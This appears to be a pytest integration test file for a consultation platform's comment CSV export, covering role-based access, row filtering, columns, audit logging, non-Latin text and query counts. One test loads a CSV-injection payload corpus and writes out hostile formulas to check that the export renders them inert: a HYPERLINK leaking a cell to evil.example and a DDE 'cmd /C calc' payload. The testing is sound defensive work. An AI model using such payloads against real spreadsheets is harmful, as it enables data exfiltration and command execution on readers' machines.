"""The comments of a consultation (or of all of them) as CSV: who may download
them, which rows each reader gets, the columns, formula safety, non-Latin
text, the audit entry, and a number of SQL queries that does not grow with
the rows."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from sqlalchemy import select

from app.accounts.models import Membership, Role, Scope
from app.comments.export import ALL_CONSULTATIONS_HEADER, HEADER
from app.comments.models import Comment, CommentStatus, path_segment
from app.comments.services import withdraw_comment
from app.core.db import utcnow
from app.core.models import AuditEntry
from tests.conftest import CORPORA
from tests.factories import grant, login, make_organisation, make_user
from tests.integration.test_comments_fixtures import add_comment, make_consultation, publish_new_version

FORMULA_PAYLOADS = CORPORA / "payloadsallthethings" / "csv_injection" / "csv_formula_payloads.txt"


def _url(consultation, **args) -> str:
    query = "&".join(f"{k}={v}" for k, v in args.items())
    return f"/manage/consultations/{consultation.id}/comments.csv" + (f"?{query}" if query else "")


def _read(response) -> tuple[list[str], list[dict[str, str]]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff"), "a BOM, so spreadsheets read UTF-8"
    header, *rows = csv.reader(io.StringIO(text[1:]))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def _set_status(session, comment: Comment, status: str) -> Comment:
    comment.status = status
    session.flush()
    return comment


def _person(session, role: str | None = None, scope: str = Scope.GLOBAL, key: str = "", **kwargs):
    user = make_user(session, **kwargs)
    if role is not None:
        grant(session, user, role, scope, key)
    return user


@pytest.fixture()
def world(session):
    """A consultation of AT with comments in every status and both audiences."""
    consultation = make_consultation(session)
    section = consultation.current_version.sections[0]
    organisation = make_organisation(session, name="Centre for Export Control Studies", country_code="FR")
    writer = make_user(session, display_name="Nadia Haddad")
    session.add(Membership(user_id=writer.id, organisation_id=organisation.id, role=Membership.MEMBER,
                           status=Membership.ACTIVE, decided_at=utcnow()))
    session.flush()
    session.refresh(writer)
    other = make_user(session, display_name="Li Wei")
    c = {
        "section": add_comment(session, consultation, writer, section=section, body="Transit needs **licensing**.",
                               stance="opposes", organisation_id=organisation.id),
        "whole": add_comment(session, consultation, other, body="The draft as a whole is clear."),
        "restricted": add_comment(session, consultation, other, section=section, body="Restricted remark.",
                                  audience="restricted"),
        "amendment": add_comment(session, consultation, other, section=section, body="Replace the article.",
                                 kind="amendment", proposed_wording="The authority shall license transit."),
        "pending": add_comment(session, consultation, other, body="Awaiting a moderator."),
        "rejected": add_comment(session, consultation, other, body="Off-topic rant."),
        "spam": add_comment(session, consultation, other, body="Buy cheap watches."),
        "hidden": add_comment(session, consultation, other, body="Hidden by a moderator."),
    }
    c["reply"] = add_comment(session, consultation, other, parent=c["section"], body="Agreed, and brokering too.")
    c["withdrawn"] = add_comment(session, consultation, writer, body="Changed my mind.")
    for name in ("pending", "rejected", "spam", "hidden"):
        _set_status(session, c[name], name)
    withdraw_comment(session, c["withdrawn"], actor=writer)
    session.flush()
    assert {x.status for x in c.values()} == set(CommentStatus)
    return consultation, c


def _ids(rows) -> set[int]:
    return {int(r["comment_id"]) for r in rows}


def test_the_drafting_government_gets_what_threads_show_restricted_comments_included(client, session, world):
    consultation, c = world
    author = _person(session, Role.AUTHOR, Scope.COUNTRY, "AT")
    login(client, author)
    response = client.get(_url(consultation))
    assert response.is_streamed
    header, rows = _read(response)
    assert tuple(header) == HEADER
    assert _ids(rows) == {c[n].id for n in ("section", "whole", "restricted", "amendment", "reply", "withdrawn")}
    today = utcnow().strftime("%Y-%m-%d")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="agora1540-consultation-{consultation.id}-comments-{today}.csv"')
    assert "no-store" in response.headers["Cache-Control"]

    by_id = {int(r["comment_id"]): r for r in rows}
    first, reply = by_id[c["section"].id], by_id[c["reply"].id]
    assert first["permalink"] == f"http://localhost/consultations/{consultation.id}/comments/{c['section'].id}"
    assert first["thread_root_id"] == str(c["section"].id) and first["parent_id"] == "" and first["depth"] == "0"
    assert reply["thread_root_id"] == str(c["section"].id) and reply["parent_id"] == str(c["section"].id)
    assert reply["depth"] == "1"
    assert first["version"] == "1" and first["section_anchor"] == "article-1"
    assert first["section_title"] == "Article 1 — Licensing 1"
    assert by_id[c["whole"].id]["section_anchor"] == "" and by_id[c["whole"].id]["section_title"] == ""
    created = datetime.strptime(first["created_at_utc"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert abs((created - c["section"].created_at).total_seconds()) < 1
    assert first["author"] == "Nadia Haddad"
    assert (first["organisation"], first["organisation_kind"], first["organisation_country"]) == (
        "Centre for Export Control Studies", "ngo", "FR")
    assert (first["kind"], first["stance"], first["audience"], first["status"], first["language"]) == (
        "comment", "opposes", "public", "published", "en")
    assert first["support_count"] == "0"
    assert first["body_markdown"] == "Transit needs **licensing**.", "the Markdown source, not HTML"
    assert first["receipt_number"] == c["section"].receipt_number and first["receipt_number"]
    assert by_id[c["restricted"].id]["audience"] == "restricted"
    amendment = by_id[c["amendment"].id]
    assert (amendment["kind"], amendment["proposed_wording"]) == ("amendment", "The authority shall license transit.")
    withdrawn = by_id[c["withdrawn"].id]
    assert withdrawn["status"] == "withdrawn" and withdrawn["body_markdown"] == ""
    # thread order: a reply comes right after its parent
    order = [int(r["comment_id"]) for r in rows]
    assert order.index(c["reply"].id) == order.index(c["section"].id) + 1

    entry = session.scalar(select(AuditEntry).where(AuditEntry.action == "comments.exported")
                           .order_by(AuditEntry.id.desc()))
    assert entry.actor_id == author.id and entry.target_type == "Consultation"
    assert entry.target_id == str(consultation.id)
    assert entry.after == {"consultation": consultation.id, "status": "all", "statuses": ["published", "withdrawn"],
                           "version": None}


def test_authors_may_ask_for_published_comments_but_not_for_pending_ones(client, session, world):
    consultation, c = world
    login(client, _person(session, Role.AUTHOR, Scope.COUNTRY, "AT"))
    _header, rows = _read(client.get(_url(consultation, status="published")))
    assert _ids(rows) == {c[n].id for n in ("section", "whole", "restricted", "amendment", "reply")}
    assert client.get(_url(consultation, status="pending")).status_code == 403


@pytest.mark.parametrize("who", ["consultation moderator", "global moderator", "admin"])
def test_moderators_and_admins_get_every_status(client, session, world, who):
    consultation, c = world
    user = {"consultation moderator": lambda: _person(session, Role.MODERATOR, Scope.CONSULTATION, consultation.id),
            "global moderator": lambda: _person(session, Role.MODERATOR),
            "admin": lambda: _person(session, Role.ADMIN)}[who]()
    login(client, user)
    _header, rows = _read(client.get(_url(consultation)))
    assert _ids(rows) == {x.id for x in c.values()}
    assert {r["status"] for r in rows} == set(CommentStatus)
    _header, pending = _read(client.get(_url(consultation, status="pending")))
    assert _ids(pending) == {c["pending"].id}
    _header, published = _read(client.get(_url(consultation, status="published")))
    assert {r["status"] for r in published} == {"published"}
    entries = session.scalars(select(AuditEntry).where(AuditEntry.action == "comments.exported",
                                                       AuditEntry.actor_id == user.id)).all()
    assert [e.after["status"] for e in entries] == ["all", "pending", "published"]


@pytest.mark.parametrize("who, expected", [
    ("participant", 403), ("focal point in scope", 403), ("author of another State", 404),
    ("moderator of another consultation", 404), ("representative", 403),
])
def test_others_are_refused(client, session, world, who, expected):
    consultation, _c = world
    other = make_consultation(session)
    user = {
        "participant": lambda: _person(session),
        "focal point in scope": lambda: _person(session, Role.FOCAL_POINT, Scope.REGION, "OSCE"),
        "author of another State": lambda: _person(session, Role.AUTHOR, Scope.COUNTRY, "FR"),
        "moderator of another consultation": lambda: _person(session, Role.MODERATOR, Scope.CONSULTATION,
                                                             other.id),
        "representative": lambda: _person(session),
    }[who]()
    if who == "representative":
        make_organisation(session, representative=user)
    login(client, user)
    assert client.get(_url(consultation)).status_code == expected
    assert session.scalar(select(AuditEntry.id).where(AuditEntry.action == "comments.exported",
                                                      AuditEntry.actor_id == user.id)) is None


def test_visitors_are_sent_to_sign_in(client, world):
    consultation, _c = world
    response = client.get(_url(consultation))
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_bad_parameters_and_unknown_ids(client, session, world):
    consultation, _c = world
    login(client, _person(session, Role.ADMIN))
    assert client.get(_url(consultation, status="everything")).status_code == 400
    assert client.get(_url(consultation, version="one")).status_code == 400
    assert client.get(_url(consultation, version="0")).status_code == 400
    assert client.get(_url(consultation, version="\u0661")).status_code == 400  # an Arabic-Indic digit
    assert client.get(_url(consultation, version="7")).status_code == 404
    assert client.get("/manage/consultations/987654321/comments.csv").status_code == 404


def test_the_version_filter(client, session):
    consultation = make_consultation(session)
    writer = make_user(session)
    early = add_comment(session, consultation, writer, section=consultation.current_version.sections[0],
                        body="On version 1.")
    publish_new_version(session, consultation)
    session.refresh(consultation)
    late = add_comment(session, consultation, writer, section=consultation.current_version.sections[0],
                       body="On version 2.")
    login(client, _person(session, Role.AUTHOR, Scope.COUNTRY, "AT"))
    _h, one = _read(client.get(_url(consultation, version=1)))
    _h, two = _read(client.get(_url(consultation, version=2)))
    _h, both = _read(client.get(_url(consultation)))
    assert _ids(one) == {early.id} and one[0]["version"] == "1"
    assert _ids(two) == {late.id} and two[0]["version"] == "2"
    assert _ids(both) == {early.id, late.id}
    page = client.get(f"/manage/consultations/{consultation.id}").get_data(as_text=True)
    assert f"/manage/consultations/{consultation.id}/comments.csv?version=2" in page


def test_formulas_come_out_inert(client, session):
    consultation = make_consultation(session)
    writer = make_user(session, display_name='=HYPERLINK("http://evil.example","name")')
    payloads = [p for p in FORMULA_PAYLOADS.read_text(encoding="utf-8").split("\n") if p.strip("\r\x00 \t")]
    payloads.append('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")')
    comments = [add_comment(session, consultation, writer, body=p.replace("\x00", "")) for p in payloads]
    amendment = add_comment(session, consultation, writer, section=consultation.current_version.sections[0],
                            body="Wording.", kind="amendment", proposed_wording="@SUM(1+1)*cmd|' /C calc'!A0")
    login(client, _person(session, Role.ADMIN))
    _header, rows = _read(client.get(_url(consultation)))
    by_id = {int(r["comment_id"]): r for r in rows}
    assert by_id[amendment.id]["proposed_wording"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_id[amendment.id]["author"] == "'" + writer.display_name
    hyperlink = by_id[comments[-1].id]["body_markdown"]
    assert hyperlink == "'" + comments[-1].body_source and hyperlink.startswith("'=HYPERLINK(")
    checked = 0
    for comment in comments:
        cell = by_id[comment.id]["body_markdown"]
        if comment.body_source.lstrip()[:1] in ("=", "+", "-", "@", "\u2013"):
            assert cell == "'" + comment.body_source, comment.body_source
            checked += 1
        else:
            assert cell == comment.body_source
    assert checked >= 15


def test_arabic_and_chinese_round_trip(client, session):
    consultation = make_consultation(session, languages=("ar", "zh", "en"))
    arabic = "يجب أن يشمل الترخيص العبور وإعادة الشحن."
    chinese = "过境和转运也应当纳入许可管理。"
    writer = make_user(session, display_name="نادية حداد")
    other = make_user(session, display_name="李伟")
    organisation = make_organisation(session, name="中国军控与裁军协会", representative=other)
    session.refresh(other)
    a = add_comment(session, consultation, writer, body=arabic, language="ar")
    z = add_comment(session, consultation, other, body=chinese, language="zh", organisation_id=organisation.id)
    login(client, _person(session, Role.ADMIN))
    response = client.get(_url(consultation))
    raw = response.get_data()
    assert arabic.encode() in raw and chinese.encode() in raw, "UTF-8, not an escaped or legacy encoding"
    _header, rows = _read(response)
    by_id = {int(r["comment_id"]): r for r in rows}
    assert (by_id[a.id]["body_markdown"], by_id[a.id]["author"], by_id[a.id]["language"]) == (arabic, "نادية حداد",
                                                                                              "ar")
    assert (by_id[z.id]["body_markdown"], by_id[z.id]["author"], by_id[z.id]["organisation"]) == (
        chinese, "李伟", "中国军控与裁军协会")


def _bulk_comments(session, consultation, n: int) -> None:
    """``n`` comments in threads of five, written as rows (the count is what matters)."""
    authors = [make_user(session) for _ in range(3)]
    section = consultation.current_version.sections[0]
    parent = None
    for i in range(n):
        if i % 5 == 0:
            parent = None
        comment = Comment(consultation_id=consultation.id, section_id=section.id,
                          version_id=consultation.current_version.id, parent_id=parent.id if parent else None,
                          author_id=authors[i % 3].id, body_source=f"Point {i}.", body_html=f"<p>Point {i}.</p>",
                          status=CommentStatus.PUBLISHED, idempotency_key=f"{consultation.id:08x}{i:024x}",
                          depth=parent.depth + 1 if parent else 0)
        session.add(comment)
        session.flush()
        comment.root_id = parent.root_id if parent else comment.id
        comment.path = f"{parent.path}/{path_segment(comment.id)}" if parent else path_segment(comment.id)
        parent = comment
    session.flush()


def test_sql_queries_do_not_grow_with_the_rows(client, session, query_counter):
    small, large = make_consultation(session), make_consultation(session)
    _bulk_comments(session, small, 5)
    _bulk_comments(session, large, 50)
    login(client, _person(session, Role.MODERATOR))
    counts = {}
    for consultation, n in ((small, 5), (large, 50)):
        client.get(_url(consultation)).get_data()  # warm caches
        with query_counter() as counter:
            response = client.get(_url(consultation))
            _header, rows = _read(response)  # the rows are read while the body streams
        assert len(rows) == n
        counts[n] = counter.count
    assert counts[5] == counts[50], counts


def test_global_moderators_download_every_consultation(client, session, world, query_counter):
    consultation, c = world
    second = make_consultation(session, country="FR")
    elsewhere = add_comment(session, second, make_user(session), body="On the French draft.")
    moderator = _person(session, Role.MODERATOR)
    login(client, moderator)
    response = client.get("/manage/moderation/comments.csv")
    header, rows = _read(response)
    assert tuple(header) == ALL_CONSULTATIONS_HEADER
    today = utcnow().strftime("%Y-%m-%d")
    assert response.headers["Content-Disposition"] == f'attachment; filename="agora1540-comments-{today}.csv"'
    mine = {int(r["comment_id"]): r for r in rows}
    assert {x.id for x in c.values()} | {elsewhere.id} <= set(mine)
    assert mine[elsewhere.id]["consultation_id"] == str(second.id)
    assert mine[c["spam"].id]["consultation_id"] == str(consultation.id)
    _header, pending = _read(client.get("/manage/moderation/comments.csv?status=pending"))
    assert {r["status"] for r in pending} == {"pending"} and c["pending"].id in _ids(pending)
    assert client.get("/manage/moderation/comments.csv?status=nope").status_code == 400
    entry = session.scalar(select(AuditEntry).where(AuditEntry.action == "comments.exported",
                                                    AuditEntry.actor_id == moderator.id).order_by(AuditEntry.id))
    assert entry.target_type == "Consultation" and entry.target_id == ""
    assert entry.after["consultation"] == "all" and entry.after["status"] == "all"


@pytest.mark.parametrize("role, scope, key", [
    (Role.MODERATOR, Scope.CONSULTATION, "1"), (Role.AUTHOR, Scope.COUNTRY, "AT"), (None, "", ""),
])
def test_the_export_of_every_consultation_is_for_global_moderators_only(client, session, role, scope, key):
    login(client, _person(session, role, scope, key) if role else _person(session))
    assert client.get("/manage/moderation/comments.csv").status_code == 403


def test_the_pages_link_to_the_export(client, session, world):
    consultation, c = world
    login(client, _person(session, Role.AUTHOR, Scope.COUNTRY, "AT"))
    page = client.get(f"/manage/consultations/{consultation.id}").get_data(as_text=True)
    assert f"/manage/consultations/{consultation.id}/comments.csv" in page
    assert "status=pending" not in page, "authors are not offered what they may not download"

    client.post("/logout")
    scoped = _person(session, Role.MODERATOR, Scope.CONSULTATION, consultation.id)
    login(client, scoped)
    queue = client.get(f"/manage/moderation/?consultation={consultation.id}").get_data(as_text=True)
    assert f"/manage/consultations/{consultation.id}/comments.csv" in queue
    assert "/manage/moderation/comments.csv" not in queue

    client.post("/logout")
    login(client, _person(session, Role.MODERATOR))
    queue = client.get("/manage/moderation/").get_data(as_text=True)
    assert "/manage/moderation/comments.csv" in queue
